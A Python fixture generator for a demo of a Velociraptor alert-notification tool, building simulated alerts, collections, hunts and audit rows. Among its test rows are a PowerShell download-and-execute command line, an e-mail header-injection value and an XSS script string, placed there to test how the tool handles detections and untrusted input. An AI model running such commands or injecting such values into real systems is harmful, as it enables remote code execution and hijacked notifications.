#!/usr/bin/env python3
"""Writes the demo's inputs: events.jsonl (rows as watch_monitoring() emits
them) and world.json (what the Velociraptor server would answer to lookups).

Every scenario the demo shows is described here, next to its data. The
output is deterministic; run this after changing a scenario and commit the
result (the snapshot tests pin what the modules make of it).
"""

import json
import pathlib

HERE = pathlib.Path(__file__).parent
FIXTURES = HERE.parent / "velociraptor"
ALERTS = "Server.Internal.Alerts"
COMPLETIONS = "System.Flow.Completion"
HONEYFILES = "Linux.Detection.Honeyfiles"

T0 = 1778400000  # 2026-05-10T08:00:00Z
US = 1_000_000

WIN = "C.91ac3d5e7f20b846"  # WIN-FIN-01, a finance workstation
LIN = "C.4b7e1a9c0d2f3e51"  # ws-lin-07, a Linux box with honey files
NEW = "C.e5f0a1b2c3d4e5f6"  # LAPTOP-CEO-02, enrolled during the demo
DB = "C.77aa5501b2c3d4e5"  # db-prod-03, labelled notify_results
KIOSK = "C.3c9d4e5f6a7b8c9d"  # KIOSK-LOBBY-01, on the Slack watch list
DC = "C.5a6b7c8d9e0f1a2b"  # DC-01, a domain controller labelled critical


def at(minutes, seconds=0):
    return T0 + minutes * 60 + seconds


# ---------------------------------------------------------------- alerts

def alert_rows():
    """Server.Internal.Alerts rows: two real sample rows, then the cases of
    the Alerts module."""
    rows = []
    for row in json.loads((FIXTURES / "Server.Internal.Alerts.json").read_text()):
        # Stored rows name the principal in _Source; watch_monitoring() sets
        # the queue there.
        rows.append(dict(row, _Source=ALERTS))
    rows += [
        # A honey file access, attributed to the client by a server wrapper
        # artifact (the KB's Server.Monitor.HoneyfileAccess).
        {"client_id": "server", "name": "Honey file \"/home/alice/.ssh/id_rsa\" accessed on ws-lin-07",
         "timestamp": "2026-05-10T08:00:03.512873391Z",
         "event_data": {"ClientId": LIN, "Artifact": "Linux.Detection.Honeyfiles", "ArtifactType": "CLIENT_EVENT",
                        "Severity": "high", "File name": "/home/alice/.ssh/id_rsa", "PID": 48213,
                        "Process name": "wazuh-syscheckd",
                        "Process info": {"Exe": "/var/ossec/bin/wazuh-syscheckd",
                                         "CommandLine": "/var/ossec/bin/wazuh-syscheckd", "Username": "root", "Ppid": 1}},
         "artifact": "Server.Monitor.HoneyfileAccess", "artifact_type": "SERVER_MONITORING", "_ts": at(0, 5)},
        # A Sigma (Hayabusa) hit with nested Details.
        {"client_id": "server", "name": "Suspicious PowerShell Download Cradle", "timestamp": "2026-05-10T08:02:11.004Z",
         "event_data": {"ClientId": WIN, "Artifact": "Sigma.Windows.Hayabusa.Monitoring", "ArtifactType": "CLIENT_EVENT",
                        "Level": "high", "Channel": "Microsoft-Windows-Sysmon/Operational", "EID": 1,
                        "Details": {"EventID": 1,
                                    "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                    "CommandLine": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.42/a.ps1')\"",
                                    "Hashes": {"SHA256": "A1B2C3D4E5F60718293A4B5C6D7E8F90123456789ABCDEF0011223344556677"},
                                    "Parent": {"Image": "C:\\Windows\\explorer.exe", "ProcessId": 4120},
                                    "Connections": [{"DestinationIp": "198.51.100.42", "DestinationPort": 443}]}},
         "artifact": "Server.Monitor.SigmaAlerts", "artifact_type": "SERVER_MONITORING", "_ts": at(2, 15)},
        # A failing server event query, as Server.Monitor.Errors.Alert reports it.
        {"client_id": "server", "name": "Server event query error in Custom.Server.Upload.S3",
         "timestamp": "2026-05-10T08:05:00.981Z",
         "event_data": {"Severity": "high", "Explanation": "S3 upload failed with no retry", "Level": "DEFAULT",
                        "Error": "upload_S3: operation error S3: PutObject, https response error StatusCode: 403, RequestID: 8XKZ2Q, api error AccessDenied: Access Denied\n",
                        "Log timestamp": "2026-05-10T08:04:58Z (2 seconds ago)", "Artifact": "Custom.Server.Upload.S3"},
         "artifact": "Server.Monitor.Errors.Alert", "artifact_type": "SERVER_MONITORING", "_ts": at(5, 1)},
        # A client event artifact calling alert() itself: no flow.
        {"client_id": WIN, "name": "Run key persistence: Updater", "timestamp": "2026-05-10T08:08:42.117Z",
         "event_data": {"Key": "HKEY_USERS\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                        "Value": "C:\\Users\\bob\\AppData\\Roaming\\updater.exe --silent", "Level": "warning"},
         "artifact": "Windows.Detection.Registry", "artifact_type": "CLIENT_EVENT", "_ts": at(8, 45)},
        # A long non-ASCII alert name.
        {"client_id": LIN,
         "name": "Verdächtiger Zugriff auf Köder-Datei „Gehälter_2026.xlsx“ durch unbekannten Prozess — 経理部の共有フォルダ",
         "timestamp": "2026-05-10T08:14:07Z",
         "event_data": {"Datei": "/srv/share/Finanzen/Gehälter_2026.xlsx", "Prozess": "smbd", "Benutzer": "gast",
                        "Severity": "high"},
         "artifact": "Linux.Detection.Honeyfiles", "artifact_type": "CLIENT_EVENT", "_ts": at(14, 8)},
        # An alert raised inside a collection (flow details, NotifyExecutor).
        {"client_id": LIN, "name": "YARA hit: Cobalt Strike beacon in process memory", "timestamp": "2026-05-10T08:20:31Z",
         "event_data": {"Rule": "CobaltStrike_Beacon_Encoded", "Pid": 2291, "Process": "/tmp/.x/kworker",
                        "Severity": "critical"},
         "flow_id": "F.D7KDSKSILR3TG", "_ts": at(20, 33)},
        # Attacker-controlled data: a header injection in the name and markup
        # in the context.
        {"client_id": "server", "name": "Honey file \"/tmp/x\r\nBcc: attacker@evil.example\" accessed on ws-lin-07",
         "timestamp": "2026-05-10T08:31:00Z",
         "event_data": {"ClientId": LIN, "Artifact": "Linux.Detection.Honeyfiles", "ArtifactType": "CLIENT_EVENT",
                        "Severity": "high", "File name": "/tmp/<script>alert(1)</script>", "PID": 666},
         "artifact": "Server.Monitor.HoneyfileAccess", "artifact_type": "SERVER_MONITORING", "_ts": at(31, 2)},
        # Below the SOC's severity threshold.
        {"client_id": WIN, "name": "USB storage device connected", "timestamp": "2026-05-10T08:47:10Z",
         "event_data": {"Device": "SanDisk Ultra 3.2", "Serial": "4C530001230822117183", "Severity": "low"},
         "artifact": "Windows.Events.USBDevices", "artifact_type": "CLIENT_EVENT", "_ts": at(47, 12)},
    ]
    for row in rows:
        row.setdefault("_Source", ALERTS)
    return rows


# ---------------------------------------------------------------- flows
# (the comments number the scenarios of the demo's table)

def spec(artifact, **params):
    return {"artifact": artifact,
            "parameters": {"env": [{"key": k, "value": str(v)} for k, v in params.items()]}}


def flow(client, flow_id, creator, specs, created, finished, state="FINISHED", status="", results=None,
         uploads=None, started=None, urgent=False):
    """A flow as flows() returns it, with its results and uploads (world
    file extensions) attached."""
    results = results or {}
    uploads = uploads or []
    started = started if started is not None else created + 1
    artifacts = [s["artifact"] for s in specs]
    rows = sum(len(r) for r in results.values())
    uploaded = sum(u["uploaded_size"] for u in uploads)
    stats = [{"Artifact": a, "status": "OK" if state == "FINISHED" else "GENERIC_ERROR",
              "result_rows": sum(len(r) for s, r in results.items() if s.split("/")[0] == a),
              "uploaded_files": len(uploads) if i == 0 else 0,
              "first_active": started * US, "last_active": finished * US}
             for i, a in enumerate(artifacts)]
    return {
        "client_id": client,
        "session_id": flow_id,
        "request": {"creator": creator, "client_id": client, "flow_id": flow_id, "urgent": urgent,
                    "artifacts": artifacts, "specs": specs, "timeout": 600, "max_rows": 1000000,
                    "max_upload_bytes": 1073741824},
        "create_time": created * US,
        "start_time": started * US,
        "active_time": finished * US,
        "execution_duration": (finished - started) * 1_000_000_000,
        "total_uploaded_files": len(uploads),
        "total_expected_uploaded_bytes": uploaded,
        "total_uploaded_bytes": uploaded,
        "total_collected_rows": rows,
        "total_logs": 12,
        "state": state,
        "status": status,
        "artifacts_with_results": [s for s, r in results.items() if r],
        "query_stats": stats,
        "results": results,
        "uploads": uploads,
    }


def completion(f, finished, late=0):
    """The System.Flow.Completion row for flow f (the Flow column as stored:
    enum as a number, zero fields left out)."""
    stored = {k: v for k, v in f.items() if k not in ("results", "uploads") and v not in ("", 0, [], None)}
    stored["state"] = 2 if f["state"] == "FINISHED" else 3
    return {"Timestamp": finished, "Flow": stored, "FlowId": f["session_id"], "ClientId": f["client_id"],
            "_ts": finished + late, "_Source": COMPLETIONS}


def disk_space(drives):
    return [{"Drive": d, "VolumeName": n, "FileSystem": fs, "Size": size, "FreeSpace": free,
             "PercentFree": round(100 * free / size, 1)} for d, n, fs, size, free in drives]


def users(count):
    return [{"Name": f"svc_backup{i:03}" if i % 7 == 0 else f"user{i:03}", "UUID": f"S-1-5-21-1004336348-1177238915-682003330-{1100 + i}",
             "Description": "Built-in account for backups and scheduled maintenance tasks run by the IT department"
             if i % 7 == 0 else "Finance department workstation user", "Disabled": i % 11 == 0,
             "LastLogin": f"2026-05-0{1 + i % 9}T0{i % 10}:15:00Z", "Directory": f"C:\\Users\\user{i:03}",
             "Mtime": "2026-04-30T17:02:11Z", "Type": "local"} for i in range(count)]


def mft(count):
    """Wide MFT rows (about 900 bytes each), so that a few hundred of them
    exceed AttachmentsMaxMiB = 1."""
    return [{"EntryNumber": 100000 + i,
             "FullPath": f"C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.{i:05}_none_"
                         f"{i:016x}\\Microsoft.Windows.ServicingStack.Component-{i:05}.manifest.dll",
             "FileSize": 40960 + i, "Created0x10": "2025-11-02T10:11:12Z", "Modified0x10": "2026-03-14T09:00:00Z",
             "SHA256": f"{i:064x}", "Notes": "resident=false; ads=none; " + "x" * 480, "IsDir": False, "InUse": True}
            for i in range(count)]


def flows():
    """(world flow, completion event) pairs, one per scenario."""
    out = []

    # 1. An analyst's collection on a laptop that was offline: done 20 minutes
    #    after it was scheduled. DiskSpace results inline and attached.
    f = flow(WIN, "F.D7M3R8E2OK3QE", "ann", [spec("Generic.Client.DiskSpace")], at(3), at(23),
             results={"Generic.Client.DiskSpace": disk_space([
                 ("C:", "OS", "NTFS", 511_705_088_000, 122_880_409_600),
                 ("D:", "Data", "NTFS", 1_000_186_310_656, 7_516_192_768)])})
    out.append((f, completion(f, at(23))))

    # 2. A failed collection: KapeFiles could not read a locked file. It
    #    finished quickly, but failures ignore the delay (IgnoreDelay).
    f = flow(WIN, "F.D7M3R9Q1FAIL2", "bob@corp.example", [spec("Windows.KapeFiles.Targets", Device="C:", EventLogs="Y")],
             at(24), at(24, 40), state="ERROR",
             status="upload: open \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\System32\\config\\SAM: "
                    "The process cannot access the file because it is being used by another process.")
    out.append((f, completion(f, at(24, 40))))

    # 3. A collection cancelled by an administrator (IgnoreCancelled).
    f = flow(WIN, "F.D7M3RA0CANCE6", "carol", [spec("Windows.NTFS.MFT")], at(25), at(40), state="ERROR",
             status="Cancelled by admin")
    out.append((f, completion(f, at(40))))

    # 4. A hunt flow that failed (IncludeHunts), and one that finished
    #    (hunt flows are left out unless NotifyHunts).
    f = flow(LIN, "F.CT2H7QJ3N5L0E.H", "admin", [spec("Linux.Sys.Crontab")], at(26), at(41), state="ERROR",
             status="Collection timed out after 600 seconds")
    out.append((f, completion(f, at(41))))
    f = flow(WIN, "F.CT2H7QJ3N5L0E.H", "admin", [spec("Linux.Sys.Crontab")], at(26), at(42))
    out.append((f, completion(f, at(42))))

    # 5. An offline client finishing 6 hours after the collection was
    #    scheduled (the analyst is told when results are finally in).
    f = flow(WIN, "F.D7M1A2B3OLD64", "carol", [spec("Windows.Forensics.Lnk")], at(44) - 6 * 3600, at(44),
             started=at(43),
             results={"Windows.Forensics.Lnk": [{"SourceFile": "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\Q3 forecast.xlsx.lnk",
                                                 "TargetPath": "\\\\fileserver\\finance\\Q3 forecast.xlsx",
                                                 "Created": "2026-05-09T16:40:02Z"}]})
    out.append((f, completion(f, at(44))))

    # 6. A shell command on a Linux box (Linux.Sys.BashShell needs EXECVE):
    #    the auditor sees its Stdout; the device owner is told.
    f = flow(LIN, "F.D7M4SHELL9Q2", "bob@corp.example", [spec("Linux.Sys.BashShell", Command="id; uname -a; ls -la /tmp/.x")],
             at(45), at(45, 2), urgent=True,
             results={"Linux.Sys.BashShell": [{
                 "Stdout": "uid=0(root) gid=0(root) groups=0(root)\nLinux ws-lin-07 6.8.0-60-generic #63-Ubuntu SMP x86_64 GNU/Linux\n"
                           "total 12\ndrwxr-xr-x 2 root root 4096 May 10 08:19 .\ndrwxrwxrwt 9 root root 4096 May 10 08:44 ..\n"
                           "-rwxr-xr-x 1 root root 293848 May 10 08:19 kworker\n",
                 "Stderr": "", "ReturnCode": 0, "Complete": True}]})
    out.append((f, completion(f, at(45, 2))))

    # 7. A new client's enrolment collection (Generic.Client.Info by the
    #    InterrogationService): the new-client override.
    f = flow(NEW, "F.D7M5ENROL1N8", "InterrogationService", [spec("Generic.Client.Info")], at(46), at(46, 20),
             results={"Generic.Client.Info/BasicInformation": [{"Name": "velociraptor", "BuildTime": "2026-04-02T11:00:00Z",
                                                                 "Hostname": "LAPTOP-CEO-02", "OS": "windows",
                                                                 "Platform": "Microsoft Windows 11 Pro"}]})
    out.append((f, completion(f, at(46, 20))))

    # 8. A multi-artifact collection with a wide, long user table: cut by
    #    rows, columns and cell length in the e-mail.
    f = flow(WIN, "F.D7M6MULTI3K0", "ann", [spec("Windows.Sys.Users"), spec("Windows.System.Services"),
                                            spec("Generic.Client.Info")], at(30), at(48),
             results={"Windows.Sys.Users": users(150),
                      "Windows.System.Services": [{"Name": "Updater", "DisplayName": "Updater Service",
                                                   "PathName": "C:\\Users\\bob\\AppData\\Roaming\\updater.exe --service",
                                                   "State": "Running"}]})
    out.append((f, completion(f, at(48))))

    # 9. A quick collection on a client labelled notify_results: the results
    #    override notifies although it took less than DelayThreshold.
    f = flow(DB, "F.D7M7DBSEC5R4", "dave", [spec("Linux.Sys.Pslist")], at(49), at(49, 6),
             results={"Linux.Sys.Pslist": [{"Pid": 1, "Name": "systemd", "Username": "root"},
                                           {"Pid": 2291, "Name": "postgres", "Username": "postgres"}]})
    out.append((f, completion(f, at(49, 6))))

    # 10. A big MFT collection: its attachment exceeds AttachmentsMaxMiB, so
    #     the e-mail goes out without attachments and says so in the log.
    f = flow(WIN, "F.D7M8MFTBIG7Q", "ann", [spec("Windows.NTFS.MFT")], at(50), at(65),
             results={"Windows.NTFS.MFT": mft(1300)},
             uploads=[{"vfs_path": "/clients/" + WIN + "/collections/F.D7M8MFTBIG7Q/uploads/ntfs/%5C%5C.%5CC%3A/$MFT",
                       "client_path": "\\\\.\\C:\\$MFT", "file_size": 402653184, "uploaded_size": 402653184,
                       "_Components": ["clients", WIN, "collections", "F.D7M8MFTBIG7Q", "uploads", "ntfs", "\\\\.\\C:", "$MFT"]}])
    out.append((f, completion(f, at(65))))
    return out


# ---------------------------------------------------------------- client events

def honeyfile_rows():
    """Linux.Detection.Honeyfiles client events, as the Detect module sees
    them: the same decoy twice within its dedup window, then another one."""
    def row(at_, path, pid, process):
        return {"Timestamp": at_, "FileName": path, "Pid": pid, "ProcessName": process,
                "ProcInfo": {"Exe": f"/usr/bin/{process}", "CommandLine": f"{process} -r /srv", "Username": "www-data"},
                "ClientId": LIN, "_ts": at_ + 1, "_Source": HONEYFILES}
    return [row(at(33), "/srv/www/.env.backup", 7712, "grep"),
            row(at(34), "/srv/www/.env.backup", 7712, "grep"),
            row(at(35), "/srv/www/wp-config.php.bak", 7715, "cat")]


def monitoring_logs():
    """Event query logs: a failing S3 upload (a catalogue DEFAULT pattern),
    a healthy server artifact, and a client artifact out of inotify watches."""
    def server(at_, level, message):
        return {"Timestamp": f"2026-05-10 08:{(at_ - T0) // 60:02}:00 +0000 UTC", "Level": level, "Message": message,
                "_ts": at_ * 1000}
    def client(at_, level, message):
        return {"client_time": at_, "level": level, "message": message, "_ts": at_ * 1000 + 350}
    upload_error = ("upload_S3: operation error S3: PutObject, https response error StatusCode: 403, "
                    "RequestID: 8XKZ2Q, api error AccessDenied: Access Denied\n")
    return {
        "server": {
            "Custom.Server.Upload.S3": [server(at(6), "DEFAULT", "vql: Starting query execution.\n"),
                                        server(at(6, 30), "DEFAULT", upload_error),
                                        server(at(36), "DEFAULT", upload_error)],
            "Server.Monitor.HoneyfileAccess": [server(at(1), "DEFAULT", "vql: Starting query execution.\n")],
        },
        LIN: {HONEYFILES: [client(at(12), "INFO", "Watching 112 files\n"),
                           client(at(12, 5), "ERROR", "inotify_add_watch /srv/share: no space left on device\n")]},
    }


def bad_completions():
    """Rows that are not usable: named in one message each, then skipped."""
    return [
        # A server-side collection: the artifact ignores these.
        dict(completion(json.loads((FIXTURES / "System.Flow.Completion.Flow.json").read_text())[1] | {"results": {}, "uploads": []},
                        at(66)), ClientId="server"),
        # A flow the server no longer knows (deleted before we looked).
        {"Timestamp": at(67), "Flow": {"session_id": "F.D7M9GONE0000"}, "FlowId": "F.D7M9GONE0000", "ClientId": WIN,
         "_ts": at(67), "_Source": COMPLETIONS},
        # A row whose Flow column is not an object.
        {"Timestamp": at(68), "Flow": "F.D7MAWRONG000", "FlowId": "F.D7MAWRONG000", "ClientId": WIN, "_ts": at(68),
         "_Source": COMPLETIONS},
    ]


# ---------------------------------------------------------------- audit log
# Server.Monitor.Audit reads these rows (Server.Audit.Logs, as the server
# writes them: operation, principal, details, _ts in seconds) on its ticks.

def audit_rows():
    def row(at_, operation, principal, details):
        return {"operation": operation, "principal": principal, "details": details, "_ts": at_}
    return [
        # Before the demo: the event table was set up (the monitor starts
        # one period before its first tick, so this raises nothing).
        row(1778390000, "SetServerMonitoringState", "admin", {"artifact": "Custom.Server.Upload.S3"}),
        # 12. carol starts a hunt for the beacon the YARA rule found.
        row(at(21, 40), "CreateHunt", "carol",
            {"hunt_id": "H.D7M5BEACON01", "details": {"hunt_description": "Cobalt Strike beacon, all Linux",
                                                      "state": "RUNNING"}, "orgs": ["root"]}),
        # 13. bob runs a shell on ws-lin-07 (scenario 6's collection): an
        #     artifact that needs EXECVE is an audited action that matters.
        row(at(45), "ScheduleFlow", "bob@corp.example",
            {"client": LIN, "flow_id": "F.D7M4SHELL9Q2", "details": {"artifacts": ["Linux.Sys.BashShell"]}}),
        #     ... his disk-space collection is not.
        row(at(45, 30), "ScheduleFlow", "bob@corp.example",
            {"client": WIN, "flow_id": "F.D7M5DISK0001", "details": {"artifacts": ["Generic.Client.DiskSpace"]}}),
        # 14. admin makes carol an administrator; a login says nothing.
        row(at(50), "Login", "admin", {"remote": "10.20.0.5:51515", "authenticator": "oidc"}),
        row(at(50, 20), "user_grant", "admin", {"username": "carol", "acl": {"roles": ["administrator"]},
                                                "org_ids": ["root"]}),
    ]


# ---------------------------------------------------------------- world

def world(flow_list):
    flows_by_client = {}
    for f, _ in flow_list:
        flows_by_client.setdefault(f["client_id"], {})[f["session_id"]] = f
    flows_by_client.setdefault(LIN, {})["F.D7KDSKSILR3TG"] = {
        "client_id": LIN, "session_id": "F.D7KDSKSILR3TG",
        "request": {"creator": "carol", "client_id": LIN, "flow_id": "F.D7KDSKSILR3TG", "urgent": True,
                    "artifacts": ["Linux.Detection.Yara.Process"],
                    "specs": [spec("Linux.Detection.Yara.Process", ProcessRegex="kworker|sshd",
                                   YaraUrl="https://intel.corp.example/rules/cobaltstrike.yar")],
                    "timeout": 600},
        "create_time": 1778401180000000, "start_time": 1778401181250000, "active_time": 1778401240000000,
        "execution_duration": 58750000000, "total_collected_rows": 3, "total_uploaded_files": 0,
        "total_uploaded_bytes": 0, "state": "FINISHED", "artifacts_with_results": ["Linux.Detection.Yara.Process"],
        "results": {"Linux.Detection.Yara.Process": [{"Pid": 2291, "Rule": "CobaltStrike_Beacon_Encoded"}]},
        "uploads": []}
    # 18. bob's timeline collection on WIN-FIN-01, handed to the client at 08:02,
    #     is still in progress an hour later: stuck past the default hour.
    flows_by_client.setdefault(WIN, {})["F.D7M2TIMELINE1"] = {
        "client_id": WIN, "session_id": "F.D7M2TIMELINE1",
        "request": {"creator": "bob@corp.example", "client_id": WIN, "artifacts": ["Windows.Forensics.Timeline"],
                    "specs": [spec("Windows.Forensics.Timeline")], "timeout": 600},
        "create_time": at(2) * US, "start_time": at(2, 5) * US, "active_time": at(9) * US,
        "state": "IN_PROGRESS", "total_collected_rows": 1250000, "results": {}, "uploads": []}
    definition = lambda name, type_="client", **extra: {"name": name, "type": type_, **extra}
    return {
        "_comment": "What the demo's Velociraptor server would answer to velonotify's lookups (written by generate.py). "
                    "Field names and units are Velociraptor's own.",
        "org": {"id": "root", "name": "root"},
        "server": {"public_url": "https://velociraptor.corp.example:8889/app/index.html"},
        "clients": {
            LIN: {"client_id": LIN, "agent_information": {"version": "0.75.2", "name": "velociraptor"},
                  "os_info": {"system": "linux", "hostname": "ws-lin-07", "release": "Ubuntu 24.04.2 LTS",
                              "machine": "x86_64", "fqdn": "ws-lin-07.corp.example",
                              "mac_addresses": ["52:54:00:12:34:56"]},
                  "first_seen_at": 1767225600, "last_seen_at": 1778401800000000, "last_ip": "10.20.7.107:51234",
                  "labels": ["linux", "honeypot"], "metadata": {"Owner": "alice@corp.example", "Department": "Finance"}},
            WIN: {"client_id": WIN, "agent_information": {"version": "0.75.2", "name": "velociraptor"},
                  "os_info": {"system": "windows", "hostname": "WIN-FIN-01",
                              "release": "Windows 11 Enterprise 23H2 (10.0.22631)", "machine": "amd64",
                              "fqdn": "win-fin-01.corp.example", "mac_addresses": ["00:15:5d:01:02:03"]},
                  "first_seen_at": 1770000000, "last_seen_at": 1778402830000000, "last_ip": "10.20.3.41:49822",
                  "labels": ["windows", "finance"], "metadata": {"Owner": "bob@corp.example"}},
            NEW: {"client_id": NEW, "agent_information": {"version": "0.75.2", "name": "velociraptor"},
                  "os_info": {"system": "windows", "hostname": "LAPTOP-CEO-02", "release": "Windows 11 Pro 24H2 (10.0.26100)",
                              "machine": "amd64", "fqdn": "laptop-ceo-02.corp.example"},
                  "first_seen_at": at(46) - 10, "last_seen_at": at(46, 20) * US, "labels": [], "metadata": {}},
            DB: {"client_id": DB, "agent_information": {"version": "0.75.2", "name": "velociraptor"},
                 "os_info": {"system": "linux", "hostname": "db-prod-03", "release": "Debian GNU/Linux 12 (bookworm)",
                             "machine": "x86_64", "fqdn": "db-prod-03.corp.example"},
                 "first_seen_at": 1760000000, "last_seen_at": at(49, 6) * US, "labels": ["linux", "notify_results"],
                 "metadata": {"Owner": "dba-team@corp.example"}},
            # Offline for a week, watched (label Slack); it checks in at 08:48.
            KIOSK: {"client_id": KIOSK, "os_info": {"system": "windows", "hostname": "KIOSK-LOBBY-01",
                                                    "fqdn": "kiosk-lobby-01.corp.example"},
                    "first_seen_at": 1765000000, "last_seen_at": at(48) * US, "labels": ["Slack", "kiosk"]},
            # 15. The domain controller, labelled critical, last heard from at
            #     08:05: quiet for more than an hour by 09:06.
            DC: {"client_id": DC, "os_info": {"system": "windows", "hostname": "DC-01",
                                              "fqdn": "dc-01.corp.example"},
                 "first_seen_at": 1750000000, "last_seen_at": at(5) * US, "labels": ["critical", "windows"]},
            # 16. Three more laptops enrolled within ten minutes of LAPTOP-CEO-02:
            #     four new clients, past the demo's Threshold of 3.
            **{f"C.e5f0a1b2c3d4e5{n:02x}": {"client_id": f"C.e5f0a1b2c3d4e5{n:02x}",
                                          "os_info": {"system": "windows", "hostname": f"LAPTOP-NEW-{n:02d}"},
                                          "first_seen_at": at(43 + n) - 30, "last_seen_at": at(43 + n) * US,
                                          "labels": []}
               for n in (1, 2, 3)},
            "C.5170dd5921551ec7": {"client_id": "C.5170dd5921551ec7",
                                   "os_info": {"system": "windows", "hostname": "TESTHOST", "fqdn": "testhost.local"},
                                   "first_seen_at": 1601547083, "last_seen_at": 1612354344000000, "labels": []},
        },
        "flows": flows_by_client,
        "hunts": {
            # Every scheduled client finished, three in error: a healthy hunt.
            "H.CT2H7QJ3N5L0E": {"hunt_id": "H.CT2H7QJ3N5L0E", "hunt_description": "Weekly persistence sweep",
                                "creator": "admin", "tags": ["weekly"], "state": "RUNNING",
                                "create_time": 1778300000 * US, "start_time": 1778300000 * US,
                                "artifacts": ["Windows.Sys.Users"],
                                "stats": {"total_clients_scheduled": 412, "total_finished_clients": 412,
                                          "total_clients_with_errors": 3}},
            # 17. carol's beacon hunt (scenario 12) fails on 9 of its 40
            #     Linux clients: past the default 10%.
            "H.D7M5BEACON01": {"hunt_id": "H.D7M5BEACON01", "hunt_description": "Cobalt Strike beacon, all Linux",
                               "creator": "carol", "state": "RUNNING",
                               "create_time": at(21, 40) * US, "start_time": at(21, 40) * US,
                               "artifacts": ["Linux.Detection.Yara.Process"],
                               "stats": {"total_clients_scheduled": 40, "total_finished_clients": 38,
                                         "total_clients_with_errors": 9}},
        },
        "artifacts": {
            "Linux.Detection.Honeyfiles": definition("Linux.Detection.Honeyfiles", "client_event",
                                                     author="Velociraptor Exchange", built_in=False,
                                                     required_permissions=[]),
            "Sigma.Windows.Hayabusa.Monitoring": definition("Sigma.Windows.Hayabusa.Monitoring", "client_event",
                                                            built_in=False),
            "Custom.Server.Upload.S3": definition("Custom.Server.Upload.S3", "server_event", author="soc-automation",
                                                  built_in=False, required_permissions=["FILESYSTEM_READ"]),
            "Windows.Detection.Registry": definition("Windows.Detection.Registry", "client_event", built_in=True),
            "Linux.Sys.BashShell": definition("Linux.Sys.BashShell", built_in=True, required_permissions=["EXECVE"]),
            "Windows.Sys.Users": definition("Windows.Sys.Users", built_in=True),
            "Windows.NTFS.MFT": definition("Windows.NTFS.MFT", built_in=True),
            "Generic.Client.DiskSpace": definition("Generic.Client.DiskSpace", built_in=True),
        },
        "users": [{"name": "admin", "roles": ["administrator"]},
                  {"name": "carol", "roles": ["investigator"], "email": "carol@corp.example"}],
        "server_monitoring": ["Server.Monitor.HoneyfileAccess", "Server.Monitor.SigmaAlerts", "Server.Monitor.Errors.Alert",
                              {"artifact": "Custom.Server.Upload.S3",
                               "params": {"Bucket": "evidence-eu-west-1", "Region": "eu-west-1"}}],
        "client_monitoring": {"all": ["Generic.Client.Stats", "Windows.Detection.Registry"],
                              "labels": {"linux": ["Linux.Detection.Honeyfiles"],
                                         "windows": ["Sigma.Windows.Hayabusa.Monitoring"]}},
        "monitoring_logs": monitoring_logs(),
        "audit": audit_rows(),
    }


def main():
    flow_list = flows()
    rows = alert_rows() + [c for _, c in flow_list] + honeyfile_rows() + bad_completions()
    rows.sort(key=lambda r: r["_ts"])  # as one merged watch_monitoring() stream
    lines = [json.dumps(r, ensure_ascii=False, separators=(",", ":")) for r in rows]
    # A row cut short by a crashed exporter: reported with its line number.
    lines.insert(9, '{"client_id":"server","name":"Truncated row from a crashed export')
    (HERE / "events.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (HERE / "world.json").write_text(json.dumps(world(flow_list), indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
